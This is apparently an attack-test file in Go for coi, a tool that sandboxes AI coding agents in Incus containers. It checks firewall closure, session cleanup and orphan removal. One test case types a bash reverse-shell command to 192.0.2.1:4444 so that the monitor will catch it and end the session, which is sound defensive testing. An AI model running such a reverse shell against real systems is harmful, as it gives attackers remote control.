//go:build attack

package attack

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/code-on-incus/coi/pkg/home"
	"github.com/code-on-incus/coi/pkg/run"
	"github.com/code-on-incus/coi/test/internal/house"
)

// incus runs the client of Incus itself, past coi.
func incus(t *testing.T, args ...string) string {
	t.Helper()
	out, err := exec.Command("incus", args...).CombinedOutput()
	if err != nil {
		t.Fatalf("incus %v: %v\n%s", args, err, out)
	}
	return string(out)
}

// R-NET-04: a container that cannot be deleted, or must not be because its save
// failed, keeps its rules and stays closed, also when somebody starts it by hand.
// When it is deleted at last, the rules go.
func TestUndeletableStaysClosed(t *testing.T) {
	open := listen(t)
	configure(t, fmt.Sprintf("[[network.hosts]]\nip = \"host\"\nhostnames = [\"host.test\"]\nports = [%d]\n", open))
	saves := the.Home.Path("sessions-claude")
	for name, c := range map[string]struct {
		spoil, mend func(t *testing.T, container string)
	}{
		"Incus does not delete it": {
			func(t *testing.T, c string) { incus(t, "config", "set", c, "security.protection.delete=true") },
			func(t *testing.T, c string) { incus(t, "config", "unset", c, "security.protection.delete") },
		},
		"its save fails": {
			func(t *testing.T, _ string) {
				if err := errors.Join(os.Rename(saves, saves+".away"), os.WriteFile(saves, nil, 0o600)); err != nil {
					t.Fatal(err)
				}
			},
			func(t *testing.T, _ string) {
				if err := errors.Join(os.Remove(saves), os.Rename(saves+".away", saves)); err != nil {
					t.Fatal(err)
				}
			},
		},
	} {
		t.Run(name, func(t *testing.T) {
			dir := workspace(t)
			container := launched(t, dir)
			knock := []string{"container", "exec", container, "--capture", "--format", "raw", "--", "sh", "-c", probe("169.254.0.1", open)}
			if r := must(t, dir, knock...); r.Stdout != "reached\n" {
				t.Fatalf("positive control: %s\nwant the hole reached while the session runs", r)
			}
			veth := vethOf(t, container)
			c.spoil(t, container)
			if r := do(t, dir, "shutdown", container); !strings.Contains(r.Stdout+r.Stderr, "kept") {
				t.Errorf("%s\nwant it kept", r)
			}
			closed(t, container, veth)
			incus(t, "start", container)
			if r := must(t, dir, knock...); r.Stdout != "closed\n" {
				t.Errorf("started by hand it knocks: %s\nwant closed", r)
			}
			c.mend(t, container)
			must(t, dir, "kill", "--force", container)
			spotless(t, container, veth)
		})
	}
}

func vethOf(t *testing.T, container string) string {
	t.Helper()
	var s run.Session
	if err := run.Read(the.Home.Run(container+run.SessionFile), &s); err != nil || s.Veth == "" {
		t.Fatalf("record of %s: %+v, %v", container, s, err)
	}
	return s.Veth
}

// closed fails unless the firewall says that it drops everything of a container.
func closed(t *testing.T, container, veth string) {
	t.Helper()
	var n run.NetStatus
	if err := run.Read(the.Home.Run(container+run.NetStatusFile), &n); err != nil || n.Phase != run.NetClosed || n.State != run.NetEnforcing {
		t.Errorf("firewall: %+v, %v; want it closed", n, err)
	}
	if out, err := rules(); err != nil || !bytes.Contains(out, []byte(veth)) {
		t.Errorf("the rules do not name %s: %v\n%s", veth, err, out)
	}
}

// counting are the sets that count packets by interface and decide nothing.
var counting = regexp.MustCompile(`(?s)\n\tset (?:lograte|n_[^ ]*) \{.*?\n\t\}`)

// rules is the table of this home's guard without what only counts.
func rules() ([]byte, error) {
	out, err := exec.Command("nft", "list", "table", "inet", the.Home.Table()).CombinedOutput()
	if err != nil && strings.Contains(string(out), "No such file") {
		return nil, nil
	}
	return counting.ReplaceAll(out, nil), err
}

// spotless waits until nothing of a container is left: instance, wanted files,
// rules, interface, flags, address, supervisor.
func spotless(t *testing.T, container, veth string) {
	t.Helper()
	err := house.Eventually(t.Context(), 30*time.Second, func() error {
		var left []string
		names, err := the.Containers()
		for _, n := range names {
			if n == container {
				left = append(left, "the container")
			}
		}
		for _, p := range []string{
			the.Home.Run(container + run.NetFile), the.Home.Run(container + run.WatchFile), the.Home.Run(container + run.NetHoldFile),
			the.Home.Run(container + ".placeholders.json"), the.Home.Run(container + ".baseline.json"), the.Home.Run(container + ".ask.json"),
			the.Home.Path("immutable-locks", container+".json"), "/sys/class/net/" + veth,
		} {
			if _, err := os.Lstat(p); err == nil {
				left = append(left, p)
			}
		}
		if rules, nftErr := rules(); nftErr != nil || bytes.Contains(rules, []byte(veth)) {
			left = append(left, fmt.Sprintf("rules (%v)", nftErr))
		}
		if b, err := home.ReadFile(the.Home.Run("netguard.pool.json")); err == nil && bytes.Contains(b, []byte(`"`+container+`"`)) {
			left = append(left, "its address")
		}
		for _, pid := range supervisors() {
			if b, err := os.ReadFile(filepath.Join("/proc", pid, "cmdline")); err == nil && bytes.Contains(b, []byte(container)) {
				left = append(left, "supervisor "+pid)
			}
		}
		if len(left) > 0 {
			return fmt.Errorf("left of %s: %v", container, left)
		}
		return err
	})
	if err != nil {
		the.Tell(t, container)
		t.Error(err)
	}
}

// R-REG-21, R-REG-26: whatever ends a session, nothing of it is left, a session
// without its terminal is ended like any other, and what was said in it is saved.
func TestEveryEndLeavesNothing(t *testing.T) {
	for way, c := range map[string]struct {
		end   func(t *testing.T, dir, container string)
		saved bool
	}{
		"exit":     {func(t *testing.T, dir, c string) { must(t, dir, "tmux", "send", c, "exit") }, true},
		"poweroff": {func(t *testing.T, dir, c string) { must(t, dir, "tmux", "send", c, "sudo poweroff") }, true},
		"shutdown": {func(t *testing.T, dir, c string) { must(t, dir, "shutdown", c) }, true},
		"kill":     {func(t *testing.T, dir, c string) { must(t, dir, "kill", "--force", c) }, true},
		"stopped by hand, then clean": {func(t *testing.T, dir, c string) {
			incus(t, "stop", "-f", c)
			must(t, dir, "clean", "--force")
		}, true},
		"crash of the supervisor": {func(t *testing.T, dir, c string) {
			var s run.Session
			if err := run.Read(the.Home.Run(c+run.SessionFile), &s); err != nil || s.Supervisor == nil {
				t.Fatalf("record: %+v, %v", s, err)
			}
			if err := syscall.Kill(s.Supervisor.PID, syscall.SIGKILL); err != nil {
				t.Fatal(err)
			}
			incus(t, "stop", "-f", c)
			must(t, dir, "list")
		}, true},
		"the monitor ends it": {func(t *testing.T, dir, c string) {
			must(t, dir, "tmux", "send", c, "bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'")
		}, true},
		"vanished": {func(t *testing.T, _, c string) { incus(t, "delete", "-f", c) }, false},
	} {
		t.Run(way, func(t *testing.T) {
			dir := workspace(t)
			container := launched(t, dir)
			veth := vethOf(t, container)
			must(t, dir, "container", "exec", container, "--user", "1000", "--", "sh", "-c", "mkdir -p /home/code/.claude; echo talk >/home/code/.claude/talk.jsonl")
			id := sessionOf(t, container)
			c.end(t, dir, container)
			spotless(t, container, veth)
			b, err := os.ReadFile(the.Home.Path("sessions-claude", id, ".claude", "talk.jsonl"))
			if c.saved && string(b) != "talk\n" {
				t.Errorf("saved talk = %q, %v", b, err)
			}
		})
	}
}

func sessionOf(t *testing.T, container string) string {
	t.Helper()
	var s run.Session
	if err := run.Read(the.Home.Run(container+run.SessionFile), &s); err != nil || s.SessionID == "" {
		t.Fatalf("record of %s: %+v, %v", container, s, err)
	}
	return s.SessionID
}

// R-REG-07: after a session whose supervisor and guards died and whose container
// somebody deleted past coi, coi clean finds every kind of thing that is left, of
// both address families, and nothing of it stays.
func TestOrphans(t *testing.T) {
	configure(t, "[network]\nipv6 = true\n")
	dir := workspace(t)
	must(t, dir, "run", "--", "true") // the guards run
	name := launched(t, dir)
	var rec run.Session
	if err := run.Read(the.Home.Run(name+run.SessionFile), &rec); err != nil || rec.Supervisor == nil {
		t.Fatalf("no supervisor: %v", err)
	}
	veth := rec.Veth
	// left names what there is of the session.
	left := func() (all []string) {
		table, err := exec.Command("nft", "list", "table", "inet", the.Home.Table()).CombinedOutput()
		if err == nil && strings.Contains(string(table), veth) {
			all = append(all, "rules and sets")
		}
		for _, family := range []string{"-4", "-6"} {
			if out, err := exec.Command("ip", family, "rule").CombinedOutput(); err != nil || len(mine(string(out))) > 0 {
				all = append(all, "policy rules "+family)
			}
		}
		var pool struct{ Leases map[string]any }
		if run.Read(the.Home.Run(run.NetguardPoolFile), &pool) == nil && pool.Leases[name] != nil {
			all = append(all, "lease")
		}
		files, err := filepath.Glob(the.Home.Run(name + ".*"))
		if err != nil {
			t.Fatal(err)
		}
		for _, f := range files {
			// The record and its lock tell coi list what became of the session.
			if kind := strings.TrimPrefix(f, the.Home.Run(name)); kind != run.SessionFile && kind != ".lock" {
				all = append(all, "run/…"+kind)
			}
		}
		if now, err := filepath.Glob(dir + "/.*"); err != nil || len(now) > 0 {
			all = append(all, fmt.Sprintf("placeholders %v", now))
		}
		if locks, err := filepath.Glob(the.Home.Path("immutable-locks", "*")); err != nil || len(locks) > 0 {
			all = append(all, "immutable flags")
		}
		return all
	}
	for _, pid := range []int{home.Holder(the.Home.Run(run.WatchLock)), home.Holder(the.Home.Run(run.NetguardLock)), rec.Supervisor.PID} {
		if err := syscall.Kill(pid, syscall.SIGKILL); err != nil {
			t.Fatal(err)
		}
	}
	incus(t, "delete", "-f", name)
	was := strings.Join(left(), ", ")
	for _, kind := range []string{"rules and sets", "lease", run.NetFile, run.WatchFile, "placeholders"} {
		if !strings.Contains(was, kind) {
			t.Errorf("control: no %s are left of the session: %s", kind, was)
		}
	}
	err := house.Eventually(t.Context(), time.Minute, func() error {
		r := must(t, dir, "clean", "--orphans", "--force")
		if l := left(); len(l) > 0 {
			return fmt.Errorf("left: %q\n%s", l, r)
		}
		return nil
	})
	if err != nil {
		t.Error(err)
	}
}

// Placeholders that a running session of the workspace needs as well are not
// taken from under it when those of a lost session are cleaned up.
func TestOrphansBesideARunningSession(t *testing.T) {
	dir := workspace(t)
	stays, lost := launched(t, dir), launched(t, dir)
	var rec run.Session
	if err := run.Read(the.Home.Run(lost+run.SessionFile), &rec); err != nil || rec.Supervisor == nil {
		t.Fatalf("no supervisor: %v", err)
	}
	if err := syscall.Kill(rec.Supervisor.PID, syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	incus(t, "delete", "-f", lost)
	// Without a record no supervisor can finish it.
	if err := os.Remove(the.Home.Run(lost + run.SessionFile)); err != nil {
		t.Fatal(err)
	}
	r := must(t, dir, "clean", "--orphans", "--force")
	if !strings.Contains(r.Stdout, lost+".placeholders.json") {
		t.Errorf("%s\nwant the placeholders of %s named", r, lost)
	}
	if files, err := filepath.Glob(the.Home.Run(lost + ".*")); err != nil || len(files) > 0 {
		t.Errorf("left: %q, %v", files, err)
	}
	if _, err := os.Lstat(filepath.Join(dir, ".coi")); err != nil {
		t.Errorf("the placeholder of %s: %v", stays, err)
	}
	must(t, dir, "kill", "--force", stays)
	err := house.Eventually(t.Context(), 10*time.Second, func() error {
		now, err := filepath.Glob(dir + "/.*")
		if err == nil && len(now) > 0 {
			err = fmt.Errorf("placeholders %q", now)
		}
		return err
	})
	if err != nil {
		t.Error(err)
	}
}
